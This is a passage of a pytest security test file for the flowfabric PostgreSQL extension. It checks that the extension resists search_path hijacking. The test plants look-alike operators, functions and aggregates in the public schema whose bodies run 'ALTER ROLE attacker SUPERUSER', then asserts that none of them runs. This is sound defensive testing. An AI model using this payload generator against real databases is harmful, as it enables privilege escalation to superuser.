"""Look-alike objects planted by a database owner who is not a superuser.

In PostgreSQL 15 the owner of a database owns its `public` schema, so they
can create operators and functions there that are better matches than the
catalog's for arguments that need an implicit cast or a polymorphic
overload: `public.*(numeric, integer)` beats `pg_catalog.*(numeric,
numeric)` for `extract(epoch FROM now()) * 1000`, `public.unnest(text[])`
beats `pg_catalog.unnest(anyarray)`. Any superuser code that resolves names
through `public` then runs the planted code with superuser rights.

flowfabric's SECURITY DEFINER functions run as the superuser that installed
it, and so does the background worker. The contract (SPEC "Version 0.3",
"Schema and security") is that nothing of the extension resolves a name
through a schema another role can write. These tests attack that as a
database owner would: the look-alikes are derived from the SQL the extension
actually runs (so a new statement is covered automatically), planted before
CREATE EXTENSION, and every function of the extension is then called with
data, and the background worker makes its passes. No planted code may run.

Exact look-alikes of catalog objects ("ties", e.g. `public.=(text, text)`)
are planted too, and the owner makes `public` come before `pg_catalog` in
their session and in the database's default path (which the background
worker's session starts with): there a tie wins. With `pg_catalog` searched
first, as in the extension's pinned path, ties resolve to the catalog.

Why this catches a regression: if any SECURITY DEFINER function lost its
pinned `search_path = flowfabric, pg_temp`, it would resolve with the
caller's path (here `public, pg_catalog, flowfabric`), and if the worker
stopped running `SET LOCAL search_path` first it would resolve with the
database's default (`public, pg_catalog`). Either way statements such as
`(extract(epoch FROM clock_timestamp()) * 1000)::bigint`, `unnest($1::text[])`,
`capabilities <@ $1` or even `lane_id = $1` would pick a planted object,
and the worker's unqualified `ff_run_reconcilers()` the planted shadow of
it. Planted code records itself in `public.pwned` and the server log and
makes the attacker a superuser; the main test's last step shows exactly
that, in a transaction it rolls back.

The derived lists are printed while the tests run.
"""
import glob
import os
import re
import time
import uuid

import psycopg
import pytest
from psycopg.types.json import Jsonb

from cluster import Cluster, wait_for

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PORT = int(os.environ.get("FF_LOOKALIKE_PORT", "54362"))
ATTACKER = "attacker"
MARKER = "flowfabric-lookalike-ran"

# Concrete types the look-alikes are planted for (arguments and operands).
TYPES = ["smallint", "integer", "bigint", "numeric", "text", "boolean", "jsonb", "uuid", "bytea", "text[]",
         "bigint[]", "integer[]", "uuid[]", "jsonb[]", "name", "double precision", "timestamptz"]
MAX_ARITY = 3


# ---------------------------------------------------------------------------
# What the extension's SQL uses, read from its sources
# ---------------------------------------------------------------------------

OPERATOR_CHARS = "+-*/<>=~!@#%^&|`?"
_RUST_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "0": "\0", "\\": "\\", '"': '"', "'": "'"}


def rust_string_literals(source):
    """The decoded contents of the string literals ("...", r"...", r#"..."#)
    of Rust source text; comments, byte strings and char literals skipped."""
    out, i, n = [], 0, len(source)
    while i < n:
        starts_token = i == 0 or not (source[i - 1].isalnum() or source[i - 1] == "_")
        raw = re.match(r'(b?)r(#*)"', source[i:i + 80]) if starts_token else None
        if source.startswith("//", i):
            end = source.find("\n", i)
            i = n if end < 0 else end
        elif source.startswith("/*", i):
            end = source.find("*/", i + 2)
            i = n if end < 0 else end + 2
        elif raw:
            close = '"' + raw.group(2)
            end = source.find(close, i + len(raw.group(0)))
            if not raw.group(1):
                out.append(source[i + len(raw.group(0)):end])
            i = end + len(close)
        elif source[i] == '"' or (starts_token and source.startswith('b"', i)):
            byte = source[i] == "b"
            j, text = i + (2 if byte else 1), []
            while source[j] != '"':
                if source[j] != "\\":
                    text.append(source[j])
                    j += 1
                    continue
                if source[j + 1] == "\n":  # line continuation: drops the newline and the indentation
                    j += 2
                    while source[j] in " \t\r\n":
                        j += 1
                    continue
                code = re.match(r"x([0-9a-fA-F]{2})|u\{([0-9a-fA-F]+)\}", source[j + 1:])
                if code:
                    text.append(chr(int(code.group(1) or code.group(2), 16)))
                    j += 1 + len(code.group(0))
                else:
                    text.append(_RUST_ESCAPES.get(source[j + 1], source[j + 1]))
                    j += 2
            if not byte:
                out.append("".join(text))
            i = j + 1
        elif source[i] == "'":
            # A char literal ('x', '\n', '\''); otherwise a lifetime ('a).
            char = re.match(r"'(?:\\(?:x[0-9a-fA-F]{2}|u\{[0-9a-fA-F]+\}|.)|[^\\'\n])'", source[i:])
            i += len(char.group(0)) if char else 1
        else:
            i += 1
    return out


# A string literal is SQL when it is a statement or a piece of one glued by
# concat! (such pieces carry UPDATE ... SET, FROM ... WHERE or RETURNING).
SQL_LIKE = re.compile(
    r"\b(SELECT|INSERT\s+INTO|UPDATE\s+\w+(\s+\w+)?\s+SET|DELETE\s+FROM|WITH\s+\w+\s+AS|SET\s+LOCAL|LOCK\s+TABLE"
    r"|NOTIFY|FROM\s+\w+\s+WHERE|RETURNING)\b")


def extension_sql():
    """[(file, sql)] for the SQL the extension runs: SQL-like string literals
    of src/**/*.rs (unit-test modules and src/pg_tests left out) and the
    schema scripts sql/*.sql (upgrade scripts left out:
    CREATE EXTENSION of the current version never runs them)."""
    pieces = []
    for path in sorted(glob.glob(os.path.join(ROOT, "src", "**", "*.rs"), recursive=True)):
        rel = os.path.relpath(path, ROOT)
        if rel.startswith(os.path.join("src", "pg_tests") + os.sep):
            continue
        with open(path) as f:
            source = re.split(r"\n#\[cfg\(test\)\]\s*\nmod tests\b", f.read())[0]
        pieces += [(rel, s) for s in rust_string_literals(source) if SQL_LIKE.search(s)]
    for path in sorted(glob.glob(os.path.join(ROOT, "sql", "*.sql"))):
        if re.fullmatch(r"flowfabric--.*--.*\.sql", os.path.basename(path)):
            continue
        with open(path) as f:
            pieces.append((os.path.relpath(path, ROOT), f.read()))
    return pieces


def code_only(sql):
    """The SQL with comments removed and string literals and quoted names
    blanked ('' and ""), so that only code is scanned. Dollar quotes go, their
    bodies stay: in the extension they are PL/pgSQL code."""
    sql = sql.replace("@extschema@", "flowfabric")
    out, i, n = [], 0, len(sql)
    while i < n:
        if sql.startswith("--", i):
            end = sql.find("\n", i)
            i = n if end < 0 else end
        elif sql.startswith("/*", i):
            depth, i = 1, i + 2
            while i < n and depth:
                step = sql[i:i + 2]
                depth += 1 if step == "/*" else -1 if step == "*/" else 0
                i += 2 if step in ("/*", "*/") else 1
            out.append(" ")
        elif sql[i] == "'":
            backslashes = bool(out) and out[-1] in "eE" and (len(out) < 2 or not (out[-2].isalnum() or out[-2] == "_"))
            j = i + 1
            while j < n:
                if backslashes and sql[j] == "\\":
                    j += 2
                elif sql.startswith("''", j):
                    j += 2
                elif sql[j] == "'":
                    break
                else:
                    j += 1
            if backslashes:
                out.pop()
            out.append("''")
            i = j + 1
        elif sql[i] == '"':
            end = sql.find('"', i + 1)
            out.append('""')
            i = n if end < 0 else end + 1
        elif sql[i] == "$" and re.match(r"\$(?:[A-Za-z_]\w*)?\$", sql[i:]):
            i += len(re.match(r"\$(?:[A-Za-z_]\w*)?\$", sql[i:]).group(0))
            out.append(" ")
        else:
            out.append(sql[i])
            i += 1
    return "".join(out)


def lex_operator_run(run):
    """Splits a run of operator characters as PostgreSQL's lexer does: a
    multi-character operator cannot end in + or - unless it also holds one of
    ~ ! @ # % ^ & | ` ? (so `>=-1` is `>=` and a prefix `-`)."""
    tokens = []
    for stop in ("--", "/*"):
        if stop in run:
            run = run[:run.index(stop)]
    while run:
        token = run
        if len(token) > 1 and not any(ch in "~!@#%^&|`?" for ch in token):
            while len(token) > 1 and token[-1] in "+-":
                token = token[:-1]
        tokens.append("<>" if token == "!=" else token)
        run = run[len(token):]
    return tokens


# Syntax that PostgreSQL turns into an operator looked up by name.
IMPLIED_OPERATORS = [
    (r"\bBETWEEN\b", ["<=", ">="]),
    (r"\bNOT\s+IN\s*\(", ["<>"]),
    (r"\bIN\s*\(|\bNULLIF\s*\(|\bDISTINCT\s+FROM\b|\bCASE\s+(?!WHEN\b)\w", ["="]),
    (r"\bNOT\s+LIKE\b", ["!~~"]),
    (r"\bLIKE\b", ["~~"]),
    (r"\bNOT\s+ILIKE\b", ["!~~*"]),
    (r"\bILIKE\b", ["~~*"]),
    (r"\bSIMILAR\s+TO\b", ["~"]),
]


def operators_in(code):
    """Operator names in scanned code. `::` (cast), `:=` (PL/pgSQL
    assignment) and `=>` (named argument) are syntax, not operators."""
    code = re.sub(r"::|:=|=>(?![" + re.escape(OPERATOR_CHARS) + "])", " ", code)
    ops = set()
    for run in re.findall("[" + re.escape(OPERATOR_CHARS) + "]+", code):
        ops.update(lex_operator_run(run))
    for pattern, implied in IMPLIED_OPERATORS:
        if re.search(pattern, code, re.I):
            ops.update(implied)
    return ops


def call_names_in(code):
    """Unqualified names followed by "(" (lower-cased, as PostgreSQL folds
    them); the catalog later decides which of them are functions."""
    code = re.sub(r"::\s*\w+", " ", code)  # numeric(10, 2) after a cast is a type, not a call
    return {m.group(1).lower() for m in re.finditer(r"(?<![\w.$\"])([A-Za-z_]\w*)\s*\(", code)}


def scan_sources():
    """(operators, candidate call names) over all of the extension's SQL."""
    ops, names = set(), set()
    for _, sql in extension_sql():
        code = code_only(sql)
        ops |= operators_in(code)
        names |= call_names_in(code)
    return ops, names


# ---------------------------------------------------------------------------
# Planting
# ---------------------------------------------------------------------------

# Joins pg_proc p to the extension's membership.
EXTENSION_MEMBER = """
    JOIN pg_depend d ON d.classid = 'pg_proc'::regclass AND d.objid = p.oid AND d.deptype = 'e'
    JOIN pg_extension e ON e.oid = d.refobjid AND e.extname = 'flowfabric'"""

# Resolves an expression with only the catalog's objects and answers the
# type of its result, without evaluating it (a CASE arm that is never taken
# is not even constant-folded); NULL when it does not resolve.
PROBE_FUNCTION = r"""
CREATE FUNCTION pg_temp.lookalike_result_type(expr text, set_returning boolean) RETURNS text
LANGUAGE plpgsql AS $probe$
DECLARE result text;
BEGIN
    IF set_returning THEN
        EXECUTE pg_catalog.format(
            'SELECT pg_catalog.pg_typeof(r)::text FROM (SELECT %s AS r UNION ALL SELECT NULL) s LIMIT 1', expr)
            INTO result;
    ELSE
        EXECUTE pg_catalog.format('SELECT pg_catalog.pg_typeof(CASE WHEN false THEN %s END)::text', expr) INTO result;
    END IF;
    RETURN result;
EXCEPTION WHEN OTHERS THEN
    RETURN NULL;
END $probe$
"""


class Planting:
    """Derives the look-alikes from the scanned names and the catalog (asked
    through `conn`, a superuser session whose path holds no writable schema)
    and writes the DDL that plants them in `schema`."""

    def __init__(self, conn, ops, names):
        self.conn = conn
        conn.execute(PROBE_FUNCTION)
        oids = conn.execute(
            "SELECT t, t::regtype::oid, format_type(t::regtype, NULL) FROM unnest(%s::text[]) t", (TYPES,)).fetchall()
        self.type_oid = {name: oid for _, oid, name in oids}
        self.types = [name for _, _, name in oids]
        # Names the grammar treats specially (EXTRACT, COALESCE, GREATEST, ...)
        # are either no functions or always pg_catalog-qualified by the parser.
        keywords = {r[0] for r in conn.execute("SELECT word FROM pg_get_keywords() WHERE catcode IN ('C', 'R')")}
        self.functions = sorted(r[0] for r in conn.execute(
            "SELECT DISTINCT proname FROM pg_proc "
            "WHERE pronamespace = 'pg_catalog'::regnamespace AND proname = ANY(%s)",
            (sorted(names - keywords),)))
        known_ops = {r[0] for r in conn.execute(
            "SELECT DISTINCT oprname FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace")}
        self.operators = sorted(op for op in ops if op in known_ops)
        self.ddl = []
        self.counts = {"operators": 0, "functions": 0, "aggregates": 0, "ties": 0}
        self.sample = {}

    def _probe(self, exprs, set_returning=False):
        """Result types of many expressions in one round trip (None where the
        catalog alone does not resolve them)."""
        if not exprs:
            return []
        rows = self.conn.execute(
            "SELECT pg_temp.lookalike_result_type(e, %s) FROM unnest(%s::text[]) WITH ORDINALITY AS x(e, i) ORDER BY i",
            (set_returning, exprs)).fetchall()
        return [r[0] for r in rows]

    @staticmethod
    def _body(schema, which, returns, set_returning):
        """A plpgsql body that records who ran it, tries to make the attacker
        a superuser, and returns NULL of its type. It names nothing that
        could resolve to another look-alike."""
        ret = "RETURN;" if set_returning or returns == "void" else f"RETURN NULL::{returns};"
        which = which.replace("'", "''")
        return f"""$lookalike$
BEGIN
    INSERT INTO {schema}.pwned (who, what) VALUES (current_user, '{which}');
    RAISE WARNING '{MARKER}: % as %', '{which}', current_user;
    BEGIN
        ALTER ROLE {ATTACKER} SUPERUSER;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    {ret}
END $lookalike$"""

    def _function(self, schema, name, args, returns, which, set_returning=False):
        setof = "SETOF " if set_returning else ""
        self.ddl.append(f"CREATE FUNCTION {schema}.\"{name}\"({', '.join(args)}) RETURNS {setof}{returns} "
                        f"LANGUAGE plpgsql AS {self._body(schema, which, returns, set_returning)};")

    def plant_operators(self, schema):
        """Every derived operator name for every pair of TYPES (and every
        type, for names the catalog also has as prefix operators)."""
        exact = {(r[0], r[1], r[2]) for r in self.conn.execute(
            "SELECT oprname, oprleft, oprright FROM pg_operator "
            "WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprname = ANY(%s)", (self.operators,))}
        boolean_only = {r[0] for r in self.conn.execute(
            "SELECT oprname FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprname = ANY(%s) "
            "GROUP BY oprname HAVING bool_and(oprresult = 'boolean'::regtype)", (self.operators,))}
        prefix = {r[0] for r in self.conn.execute(
            "SELECT DISTINCT oprname FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace "
            "AND oprkind = 'l' AND oprname = ANY(%s)", (self.operators,))}
        forms = []  # (op, left or None, right)
        for op in self.operators:
            for right in self.types:
                if op in prefix:
                    forms.append((op, None, right))
                forms += [(op, left, right) for left in self.types]
        # The result type the catalog's operator would give, where one applies.
        results = self._probe([f"{f'NULL::{left} ' if left else ''}OPERATOR(pg_catalog.{op}) NULL::{right}"
                               for op, left, right in forms])
        for (op, left, right), result in zip(forms, results):
            tie = (op, self.type_oid[left] if left else 0, self.type_oid[right]) in exact
            n = self._count("ties" if tie else "operators")
            returns = result or ("boolean" if op in boolean_only else left or right)
            which = f"operator {schema}.{op}({left or 'NONE'}, {right})"
            self._function(schema, f"lookalike_op_{n}", [t for t in (left, right) if t], returns, which)
            leftarg = f"LEFTARG = {left}, " if left else ""
            self.ddl.append(f"CREATE OPERATOR {schema}.{op} (FUNCTION = {schema}.lookalike_op_{n}, "
                            f"{leftarg}RIGHTARG = {right});")
            self.sample.setdefault("tie" if tie else "operator", which)

    def plant_functions(self, schema):
        """Every derived function name for every tuple of TYPES (up to
        MAX_ARITY arguments) that a call with only the catalog's functions
        accepts: by an implicit cast, a polymorphic or "any" argument, or
        exactly (a tie)."""
        overloads = self.conn.execute(
            "SELECT proname, prokind, pronargs, pronargdefaults, provariadic <> 0, proretset, proargtypes::oid[] "
            "FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND proname = ANY(%s) "
            "AND prokind IN ('f', 'a')", (self.functions,)).fetchall()
        for name in self.functions:
            mine = [o for o in overloads if o[0] == name]
            exact = {tuple(o[6]) for o in mine}
            is_aggregate = any(o[1] == "a" for o in mine)
            set_returning = any(o[5] for o in mine)
            arities = set()
            for _, _, nargs, ndefaults, variadic, _, _ in mine:
                low = nargs - ndefaults - (1 if variadic else 0)
                high = MAX_ARITY if variadic else nargs
                arities.update(range(max(low, 0), min(high, MAX_ARITY) + 1))
            for arity in sorted(arities):
                tuples = [()]
                for _ in range(arity):
                    tuples = [t + (ty,) for t in tuples for ty in self.types]
                star = "*" if is_aggregate and arity == 0 else ""  # count(*)
                calls = [f"pg_catalog.{name}({', '.join(f'NULL::{ty}' for ty in t) or star})" for t in tuples]
                for args, result in zip(tuples, self._probe(calls, set_returning)):
                    if result is None or result in ("record", "trigger", "unknown"):
                        continue
                    tie = tuple(self.type_oid[ty] for ty in args) in exact
                    self._plant_function(schema, name, list(args), result, is_aggregate, set_returning, tie)

    def _count(self, kind):
        """Counts one planted object of `kind`; returns a number unique in
        this planting (for helper function names)."""
        self.counts[kind] += 1
        return sum(self.counts.values())

    def _plant_function(self, schema, name, args, returns, is_aggregate, set_returning, tie):
        kind = "aggregate" if is_aggregate else "function"
        n = self._count("ties" if tie else kind + "s")
        which = f"{kind} {schema}.{name}({', '.join(args)})"
        self.sample.setdefault("tie" if tie else kind, which)
        if not is_aggregate:
            self._function(schema, name, args, returns, which, set_returning)
            return
        # Planted aggregates run their code per row (transition) and once at
        # the end (final; also over zero rows).
        self._function(schema, f"lookalike_agg_step_{n}", [returns] + args, returns, which + " step")
        self._function(schema, f"lookalike_agg_final_{n}", [returns], returns, which + " final")
        self.ddl.append(f"CREATE AGGREGATE {schema}.\"{name}\"({', '.join(args) or '*'}) "
                        f"(SFUNC = {schema}.lookalike_agg_step_{n}, STYPE = {returns}, "
                        f"FINALFUNC = {schema}.lookalike_agg_final_{n});")


def plant_shadows(attacker_conn, catalog_conn, schema="public"):
    """Plants a function of the same name and arguments as each function of
    the installed extension: had the worker or a SECURITY DEFINER function
    lost its pinned path, its unqualified `ff_run_reconcilers()` and the like
    would resolve here first. Returns how many."""
    rows = catalog_conn.execute(f"""
        SELECT p.proname, pg_get_function_identity_arguments(p.oid), pg_get_function_result(p.oid), p.proretset
        FROM pg_proc p {EXTENSION_MEMBER} WHERE p.prorettype <> 'trigger'::regtype""").fetchall()
    ddl = []
    for name, args, result, set_returning in rows:
        which = f"shadow {schema}.{name}({args})"
        ddl.append(f"CREATE FUNCTION {schema}.{name}({args}) RETURNS {result} LANGUAGE plpgsql AS "
                   f"{Planting._body(schema, which, result, set_returning)};")
    with attacker_conn.transaction():
        attacker_conn.execute("\n".join(ddl))
    return len(ddl)


def plant(attacker_conn, planting, schema):
    """Runs the planting DDL as the attacker, in one transaction."""
    planting.ddl = []
    planting.plant_operators(schema)
    planting.plant_functions(schema)
    started = time.time()
    with attacker_conn.transaction():
        attacker_conn.execute("SET LOCAL check_function_bodies = off")  # bodies are uniform; skip re-parsing each
        attacker_conn.execute("\n".join(planting.ddl))
    return time.time() - started


# ---------------------------------------------------------------------------
# Cluster and roles
# ---------------------------------------------------------------------------

@pytest.fixture(scope="module")
def lookalike_cluster():
    """A private cluster whose background worker serves `attackdb`, a
    database owned by the attacker. The database must exist before the
    worker starts, so the cluster is restarted once it does."""
    c = Cluster("lookalike", PORT, conf={
        "shared_preload_libraries": "'flowfabric'",
        "flowfabric.database": "'attackdb'",
        "flowfabric.reconciler_interval_ms": 100,
        "track_functions": "all",
        # Dropping a schema of planted look-alikes locks every one of them.
        "max_locks_per_transaction": 512,
    }).init().start()
    try:
        with c.connect(search_path="pg_catalog") as s:
            s.execute(f"CREATE ROLE {ATTACKER} LOGIN NOSUPERUSER")
            s.execute(f"CREATE DATABASE attackdb OWNER {ATTACKER}")
        # The owner makes every session in attackdb that does not choose its
        # own path (the background worker's included) search public before
        # pg_catalog, where even exact ties of catalog objects win.
        with c.connect("attackdb", user=ATTACKER, search_path="public") as a:
            a.execute("ALTER DATABASE attackdb SET search_path = public, pg_catalog")
        c.stop()
        c.start()
        yield c
    finally:
        c.stop()


def superuser(cluster, db):
    """A superuser session whose path holds no schema the attacker can write
    (pg_catalog is searched first, then the extension's own schema)."""
    return cluster.connect(db, search_path="flowfabric")


def is_superuser(conn, role=ATTACKER):
    return conn.execute("SELECT rolsuper FROM pg_roles WHERE rolname = %s", (role,)).fetchone()[0]


def make_pwned_table(attacker_conn, schema="public"):
    attacker_conn.execute(f"CREATE TABLE {schema}.pwned (who text, what text)")
    attacker_conn.execute(f"GRANT INSERT ON {schema}.pwned TO PUBLIC")


# ---------------------------------------------------------------------------
# The attacker's workload
# ---------------------------------------------------------------------------

class Session:
    """The attacker's session. Every statement calls flowfabric.<function>
    with literals and typed parameters only (no operator, no unqualified
    function), so nothing the session itself writes could pick a planted
    object; results are checked in Python. Any error other than the one a
    call expects fails the test."""

    def __init__(self, conn):
        self.conn = conn
        self.called = set()

    def run(self, sql, params=(), expect=None):
        try:
            cur = self.conn.execute(sql, params)
            rows = cur.fetchall() if cur.description else []
        except psycopg.Error as e:
            self.check_nothing_ran(sql)
            if expect is not None and e.sqlstate == expect:
                return e
            raise AssertionError(f"unexpected SQLSTATE {e.sqlstate} from {sql} {params}: {e}") from None
        self.check_nothing_ran(sql)
        assert expect is None, f"{sql} {params} succeeded; expected SQLSTATE {expect}"
        self.called.update(re.findall(r"\bflowfabric\.(ff_\w+)\s*\(", sql))
        return rows

    def check_nothing_ran(self, sql):
        """Points at the very call that ran planted code, if one did."""
        ran = self.conn.execute("SELECT who, what FROM public.pwned").fetchall()
        assert not ran, f"planted code ran during {sql}: {ran}"

    def one(self, sql, params=()):
        rows = self.run(sql, params)
        assert len(rows) == 1, (sql, rows)
        return rows[0]

    def value(self, sql, params=()):
        return self.one(sql, params)[0]

    def state(self, eid):
        return self.value("SELECT flowfabric.ff_get_execution(%s)", (eid,))["public_state"]

    def claim(self, lane, worker="w", caps=None, ttl=30000):
        rows = self.run("SELECT * FROM flowfabric.ff_claim_for_worker(%s, %s, %s, capabilities => %s::text[], "
                        "grant_ttl_ms => %s::bigint)", (lane, worker, worker + "-1", caps or [], ttl))
        return (rows[0][0], rows[0][2]) if rows else None  # (execution_id, grant_key)

    def complete(self, eid, grant, result=None):
        self.run("SELECT flowfabric.ff_complete_execution(%s, %s, %s)", (eid, grant, Jsonb(result or {"ok": True})))

    def create(self, lane, **options):
        named = "".join(f", {k} => %s" for k in options)
        values = [Jsonb(v) if isinstance(v, dict) else v for v in options.values()]
        return self.value(f"SELECT flowfabric.ff_create_execution(%s{named})", (lane, *values))


def budgets_and_quotas(s):
    """Reports within limits, replays, soft and hard breaches, admin reports,
    status, reset, an unknown budget; an advisory budget that records hard
    breaches and announces soft ones; a quota policy."""
    assert s.value("SELECT flowfabric.ff_create_budget('b-report', '{tokens}', '{100}', '{50}', "
                   "reset_interval_ms => 60000)") == "created"
    assert s.value("SELECT flowfabric.ff_create_budget('b-report', '{tokens}', '{100}', '{50}', "
                   "reset_interval_ms => 60000)") == "already_satisfied"
    report = "SELECT outcome FROM flowfabric.ff_report_usage(%s, %s, %s)"
    assert s.value(report, ("b-report", Jsonb({"tokens": 10}), "r1")) == "ok"
    assert s.value(report, ("b-report", Jsonb({"tokens": 10}), "r1")) in ("ok", "already_applied")
    assert s.value(report, ("b-report", Jsonb({"tokens": 45}), None)) == "soft_breach"
    assert s.value(report, ("b-report", Jsonb({"tokens": 100}), None)) == "hard_breach"
    assert s.value("SELECT outcome FROM flowfabric.ff_report_usage_admin('b-report', '{tokens}', '{1}', 'a1')") \
        == "soft_breach"
    s.run(report, ("no-such-budget", Jsonb({"tokens": 1}), None), expect="P0002")
    assert s.value("SELECT flowfabric.ff_get_budget_status('b-report')")["usage"] == {"tokens": 56}
    assert s.value("SELECT flowfabric.ff_reset_budget('b-report')") > 0
    assert s.value("SELECT flowfabric.ff_get_budget_status('b-report')")["usage"] == {"tokens": 0}
    s.run("SELECT flowfabric.ff_reset_budget('no-such-budget')", expect="P0002")

    s.value("SELECT flowfabric.ff_create_budget('b-advisory', '{tokens,calls}', '{10,0}', '{5,0}', "
            "enforcement_mode => 'advisory', on_hard_limit => 'record', on_soft_limit => 'notify')")
    assert s.value(report, ("b-advisory", Jsonb({"tokens": 6, "calls": 1}), None)) == "soft_breach"
    assert s.value(report, ("b-advisory", Jsonb({"tokens": 10}), None)) == "hard_breach"
    s.run("SELECT flowfabric.ff_create_budget('b-bad', '{tokens}', '{1}', '{0}', enforcement_mode => 'loose')",
          expect="22023")

    s.value("SELECT flowfabric.ff_create_budget('b-spend', '{tokens}', '{1000}', '{0}')")
    assert s.value("SELECT flowfabric.ff_create_quota_policy('q1', 60, 100, 5)") in ("created", "already_satisfied")


def executions_and_claims(s):
    """Executions with every creation option, claims with and without
    capabilities (budget reservation and quota admission on the way),
    batches, grants, leases, spend, retryable and final failures, retry and
    cancel."""
    options = dict(payload={"n": 1}, priority=5, required_capabilities=["gpu"], budget_ids=["b-spend"],
                   budget_reserve={"tokens": 5}, quota_policy_id="q1", max_attempts=3, unique_key="u1",
                   retry_policy={"base_ms": 1, "max_ms": 2, "jitter": False})
    gpu = s.create("lane-a", **options)
    assert s.create("lane-a", **options) == gpu, "a live execution with that unique_key is returned"
    plain = s.create("lane-a", payload={"n": 2})
    far = s.create("lane-a", delay_until_ms=int(time.time() * 1000) + 3_600_000)
    assert s.state(far) == "delayed"
    s.run("SELECT flowfabric.ff_create_execution('lane-a', budget_ids => '{no-such-budget}')", expect="P0002")

    eid, grant_plain = s.claim("lane-a")
    assert eid == plain, "a worker without capabilities skips the gpu execution"
    assert s.claim("lane-a") is None
    eid, grant_gpu = s.claim("lane-a", caps=["gpu", "cuda"])
    assert eid == gpu
    assert s.value("SELECT flowfabric.ff_verify_grant(%s)", (grant_gpu,)) == "ok"
    assert s.value("SELECT flowfabric.ff_verify_grant('not-a-grant')") == "malformed"
    assert s.value("SELECT flowfabric.ff_renew_lease(%s, %s, 60000)", (gpu, grant_gpu)) > 0
    spend = "SELECT outcome FROM flowfabric.ff_record_spend('b-spend', %s, %s, %s)"
    assert s.value(spend, (gpu, Jsonb({"tokens": 3}), "spend-1")) == "ok"
    assert s.value(spend, (gpu, Jsonb({"tokens": 3}), "spend-1")) == "already_applied"
    assert s.value("SELECT flowfabric.ff_get_budget_status('b-spend')")["usage"] == {"tokens": 3}
    assert s.value("SELECT flowfabric.ff_fail_execution(%s, %s, 'transient', true)", (gpu, grant_gpu)) \
        == "retry_scheduled"
    time.sleep(0.01)  # the 1 ms backoff

    batch_ids = s.value("SELECT flowfabric.ff_create_executions('lane-b', %s::jsonb[], priority => 1, "
                        "max_attempts => 2, retry_policy => %s)",
                        ([Jsonb({"i": i}) for i in range(3)], Jsonb({"base_ms": 10})))
    assert len(batch_ids) == 3
    batch = ("SELECT execution_id, grant_key, lane_id, payload, attempt FROM flowfabric.ff_claim_batch("
             "%s::text[], 'w2', 'w2-1', capabilities => '{gpu}', max_count => 10)")
    rows = s.run(batch, (["lane-b", "lane-a"],))
    if gpu not in {r[0] for r in rows}:
        # The worker's pass may be promoting the retry right now (claims skip locked rows).
        rows += wait_for(lambda: s.run(batch, (["lane-a"],)), timeout=5) or []
    claimed = {r[0]: r for r in rows}
    assert set(batch_ids) | {gpu} <= set(claimed), rows
    assert claimed[gpu][4] == 2, "the second attempt of the gpu execution"
    for eid, grant, *_ in rows:
        s.complete(eid, grant)
    s.run("SELECT flowfabric.ff_release_budget('b-spend', %s)", (gpu,))
    s.run("SELECT flowfabric.ff_release_budget('b-spend', %s)", (gpu,))  # idempotent

    assert s.value("SELECT flowfabric.ff_fail_execution(%s, %s, 'fatal', false)", (plain, grant_plain)) == "failed"
    assert s.value("SELECT flowfabric.ff_retry_execution(%s)", (plain,)) == "requeued"
    assert s.value("SELECT flowfabric.ff_retry_execution(%s, reset_attempts => false)", (plain,)) == "already_live"
    assert s.value("SELECT flowfabric.ff_cancel_execution(%s, 'not needed')", (plain,)) == "cancelled"
    assert s.value("SELECT flowfabric.ff_cancel_execution(%s)", (plain,)) == "already_terminal"
    assert s.value("SELECT flowfabric.ff_cancel_execution(%s)", (far,)) == "cancelled"
    s.run("SELECT flowfabric.ff_get_execution('{fp:1}:not-a-uuid')", expect="22023")


def build(s, lane, names, edges, policies=None):
    """A flow through the incremental API: executions, membership, group
    policies, staged and applied edges (with a stale revision refused)."""
    flow = uuid.uuid4()
    assert s.value("SELECT flowfabric.ff_create_flow(%s)", (flow,)) == "created"
    assert s.value("SELECT flowfabric.ff_create_flow(%s, 'dag', 'default')", (flow,)) == "already_satisfied"
    ids = {}
    for name in names:
        ids[name] = s.create(lane, flow_id=flow, payload={"node": name})
        assert s.one("SELECT * FROM flowfabric.ff_add_execution_to_flow(%s, %s)", (flow, ids[name]))[0] == "added"
    assert s.one("SELECT * FROM flowfabric.ff_add_execution_to_flow(%s, %s)", (flow, ids[names[0]]))[0] \
        == "already_member"
    for name, policy in (policies or {}).items():
        s.run("SELECT flowfabric.ff_set_edge_group_policy(%s, %s, %s)", (flow, ids[name], Jsonb(policy)))
    revision = len(names)
    for up, down in edges:
        edge = uuid.uuid4()
        stage = "SELECT flowfabric.ff_stage_dependency_edge(%s, %s, %s, %s, %s::bigint)"
        s.run(stage, (flow, edge, ids[up], ids[down], revision - 1), expect="40001")
        revision = s.value(stage, (flow, edge, ids[up], ids[down], revision))
        assert s.one("SELECT * FROM flowfabric.ff_apply_dependency_to_child(%s, %s, %s)",
                     (flow, edge, ids[down]))[0] == "applied"
        assert s.one("SELECT * FROM flowfabric.ff_apply_dependency_to_child(%s, %s, %s)",
                     (flow, edge, ids[down]))[0] == "already_applied"
    return flow, ids


def drain(s, lane, fail=()):
    """Claims and finishes everything claimable on a lane (failing the
    executions listed in `fail` for good); returns the ids in claim order."""
    done = []
    while (claimed := s.claim(lane)) is not None:
        eid, grant = claimed
        if eid in fail:
            s.run("SELECT flowfabric.ff_fail_execution(%s, %s, 'planned', false)", (eid, grant))
        else:
            s.complete(eid, grant, {"from": eid})
        done.append(eid)
    return done


def flows(s):
    """Flows whose cascades run through every group policy: any_of that
    cancels the remaining upstream, quorum that lets it run, all_of made
    impossible by a failure, and a cancelled flow."""
    flow, ids = build(s, "lane-f", ["a", "b", "c", "d"], [("a", "c"), ("b", "c"), ("a", "d"), ("b", "d")],
                      {"c": {"kind": "any_of", "on_satisfied": "cancel_remaining"},
                       "d": {"kind": "quorum", "k": 1, "on_satisfied": "let_run"}})
    assert s.state(ids["c"]) == s.state(ids["d"]) == "waiting_children"
    assert drain(s, "lane-f")[0] == ids["a"]
    states = {n: s.state(e) for n, e in ids.items()}
    assert states["b"] in ("cancelled", "completed") and [states[n] for n in "acd"] == ["completed"] * 3, states

    flow, ids = build(s, "lane-g", ["x", "y", "z"], [("x", "y"), ("y", "z")])
    drain(s, "lane-g", fail={ids["x"]})
